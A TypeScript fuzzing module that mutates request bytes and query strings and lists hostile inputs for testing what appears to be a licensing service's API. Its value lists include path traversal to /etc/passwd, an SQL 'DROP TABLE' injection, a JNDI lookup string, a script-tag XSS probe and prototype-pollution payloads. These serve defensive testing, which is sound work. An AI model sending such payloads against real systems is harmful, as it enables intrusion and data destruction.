import type { Rng } from './random.js';

/**
 * Mutation operators: byte-level on a body, character-level on a query string, and hostile
 * values and names for structured mutations. Each returns what it did, for the report.
 */
export interface Mutated<T> {
  value: T;
  op: string;
}

/** Bytes worth inserting: JSON syntax, invalid UTF-8, multi-byte and direction-changing text. */
const interestingBytes: Buffer[] = [
  Buffer.from([0x00]),
  Buffer.from([0xff]),
  Buffer.from([0xc0, 0x80]),
  Buffer.from([0x80]),
  Buffer.from([0xed, 0xa0, 0x80]),
  ...['"', '\\', '{', '}', '[', ']', ',', ':', ' ', '\n', '0', '-', 'e', 'null'].map((s) =>
    Buffer.from(s),
  ),
  Buffer.from('€'),
  Buffer.from('😀'),
  Buffer.from('\u202e'),
  Buffer.from('\ufeff'),
];

/** Raw JSON fragments: numbers JavaScript cannot hold, escapes PostgreSQL cannot store, depth. */
export const rawFragments = (rng: Rng): string =>
  rng.pick([
    () => '1e400',
    () => '-1e400',
    () => '123456789012345678901234567890',
    () => '-0',
    () => '0.000000000000000000000001',
    () => '"\\u0000"',
    () => '"a\\u0000b"',
    () => '"\\ud800"',
    () => '"\\udc00\\ud800"',
    () => '"\\u202eevil"',
    () => '{"__proto__":{"polluted":"yes"}}',
    () => '{"constructor":{"prototype":{"polluted":"yes"}}}',
    () => {
      const n = rng.pick([64, 1000, 20_000]);
      return '['.repeat(n) + ']'.repeat(n);
    },
    () => {
      const n = rng.pick([64, 1000, 10_000]);
      return '{"a":'.repeat(n) + '1' + '}'.repeat(n);
    },
  ])();

export function mutateBytes(rng: Rng, input: Buffer): Mutated<Buffer> {
  const at = (extra = 0) => rng.int(0, Math.max(0, input.length - 1 + extra));
  const op = rng.pick([
    'flip-bit',
    'insert-bytes',
    'delete-bytes',
    'truncate',
    'duplicate-chunk',
    'swap-bytes',
    'splice-fragment',
    'bom',
    'huge-number',
  ]);
  const b = Buffer.from(input);
  switch (op) {
    case 'flip-bit': {
      const i = at();
      b[i] = b[i]! ^ (1 << rng.int(0, 7));
      return { value: b, op };
    }
    case 'insert-bytes': {
      const i = at(1);
      const ins = Buffer.concat(
        Array.from({ length: rng.int(1, 3) }, () => rng.pick(interestingBytes)),
      );
      return { value: Buffer.concat([b.subarray(0, i), ins, b.subarray(i)]), op };
    }
    case 'delete-bytes': {
      const i = at();
      return { value: Buffer.concat([b.subarray(0, i), b.subarray(i + rng.int(1, 8))]), op };
    }
    case 'truncate':
      return { value: b.subarray(0, at()), op };
    case 'duplicate-chunk': {
      const i = at();
      const chunk = b.subarray(i, i + rng.int(1, 24));
      const j = at(1);
      return { value: Buffer.concat([b.subarray(0, j), chunk, b.subarray(j)]), op };
    }
    case 'swap-bytes': {
      const i = at();
      const j = at();
      [b[i], b[j]] = [b[j]!, b[i]!];
      return { value: b, op };
    }
    case 'splice-fragment': {
      const i = at(1);
      const frag = Buffer.from(rng.pick([',', ':', '']) + rawFragments(rng));
      return { value: Buffer.concat([b.subarray(0, i), frag, b.subarray(i)]), op };
    }
    case 'bom':
      return { value: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), b]), op };
    default: {
      const text = b.toString('latin1');
      const runs = [...text.matchAll(/\d+/g)];
      if (runs.length === 0) return { value: Buffer.concat([b, Buffer.from('9')]), op };
      const m = rng.pick(runs);
      const huge = rng.pick(['99999999999999999999999', '1e400', '-1', '0', '٣']);
      const out = text.slice(0, m.index) + huge + text.slice(m.index! + m[0].length);
      return { value: Buffer.from(out, huge === '٣' ? 'utf8' : 'latin1'), op };
    }
  }
}

/** Query-string insertions: printable ASCII plus percent-escapes of awkward bytes. */
const queryInsertions = [
  'a',
  'Z',
  '0',
  '9',
  '-',
  '_',
  '.',
  '~',
  '=',
  '&',
  '+',
  '%',
  '%00',
  '%FF',
  '%C0%80',
  '%E2%80%AE',
  '%F0%9F%98%80',
  '%ED%A0%80',
  '%25',
  '%26',
  '%3D',
  '%2B',
  '%20',
  '"',
  "'",
  '<',
  ';',
  '[',
  '%0A',
  '%0D%0A',
];

/** Mutates the query string (after `?`); only characters HTTP lets a client send. */
export function mutateQuery(rng: Rng, query: string): Mutated<string> {
  const at = (extra = 0) => rng.int(0, Math.max(0, query.length - 1 + extra));
  const pairs = query.split('&');
  const op = rng.pick([
    'delete-char',
    'insert-text',
    'replace-char',
    'duplicate-pair',
    'drop-pair',
    'swap-pairs',
    'escape-case',
    'truncate',
    'append-pair',
    'empty-value',
  ]);
  switch (op) {
    case 'delete-char': {
      const i = at();
      return { value: query.slice(0, i) + query.slice(i + 1), op };
    }
    case 'insert-text': {
      const i = at(1);
      return { value: query.slice(0, i) + rng.pick(queryInsertions) + query.slice(i), op };
    }
    case 'replace-char': {
      const i = at();
      return { value: query.slice(0, i) + rng.pick(queryInsertions) + query.slice(i + 1), op };
    }
    case 'duplicate-pair':
      return { value: `${query}&${rng.pick(pairs)}`, op };
    case 'drop-pair': {
      const i = rng.int(0, pairs.length - 1);
      return { value: pairs.filter((_, j) => j !== i).join('&'), op };
    }
    case 'swap-pairs': {
      const p = [...pairs];
      const i = rng.int(0, p.length - 1);
      const j = rng.int(0, p.length - 1);
      [p[i], p[j]] = [p[j]!, p[i]!];
      return { value: p.join('&'), op };
    }
    case 'escape-case':
      return { value: query.replace(/%[0-9A-F]{2}/g, (m) => m.toLowerCase()), op };
    case 'truncate':
      return { value: query.slice(0, at()), op };
    case 'append-pair':
      return {
        value: `${query}&${rng.pick(['junk=1', '__proto__=x', 'constructor=1', 'authToken2=', 'signature=', 'x'])}`,
        op,
      };
    default: {
      const i = rng.int(0, pairs.length - 1);
      const p = pairs.map((kv, j) => (j === i ? `${kv.split('=')[0]}=` : kv));
      return { value: p.join('&'), op };
    }
  }
}

/** Hostile string values (V1 parameters, V2 fields). */
export const hostileStrings: readonly string[] = [
  '',
  ' ',
  'x'.repeat(65),
  'x'.repeat(300),
  'x'.repeat(7000),
  '订单😀',
  'e\u0301\u0301',
  '\u202eevil',
  '\u200b',
  'a\u0000b',
  '\u0007bell',
  'line\nbreak',
  '\ud800',
  '../../etc/passwd',
  "'; DROP TABLE instances; --",
  ['$', '{jndi:ldap://x/a}'].join(''),
  '%00',
  '<script>alert(1)</script>',
  '9'.repeat(30),
  '-1',
  '0',
  '1e400',
  '0x1F',
  '٣٣',
  'NaN',
  'null',
  '20261340000000',
  '20270229000000',
  '99991231235959',
  '2026-12-01',
  'FREEZE',
  'unfreeze',
  'RENEWAL',
  'kgi-fuzz-unknown',
  ',,,',
  'a,b,c',
];

/** Hostile JSON values besides strings (V2 fields). */
export const hostileJson = (rng: Rng): unknown =>
  rng.pick<() => unknown>([
    () => 0,
    () => 1,
    () => -1,
    () => 1.5,
    () => 1e308,
    () => 2 ** 64,
    () => true,
    () => false,
    () => null,
    () => [],
    () => ['x'],
    () => ({}),
    () => ({ a: 'b' }),
    () => JSON.parse('{"__proto__":{"polluted":"yes"}}'),
    () => [{ name: 'n', value: 'v' }],
  ])();

export const hostileNames: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'activity ',
  'ACTIVITY',
  'OrderId',
  'instanceid',
  '',
  'a.b',
  '$where',
  'x'.repeat(200),
  '名字',
];

/** Activity names that are not the right one: case, spacing, the other generation's names. */
export const hostileActivities: readonly string[] = [
  'NewInstance',
  'newinstance',
  'newInstance ',
  ' newInstance',
  'new\u0000Instance',
  'getLicense',
  'upgrade',
  'instanceStatus',
  'expireInstance',
  'updateInstanceStatus',
  'upgradeInstance',
  'orderNotify',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '',
  'x'.repeat(500),
  'deleteEverything',
];
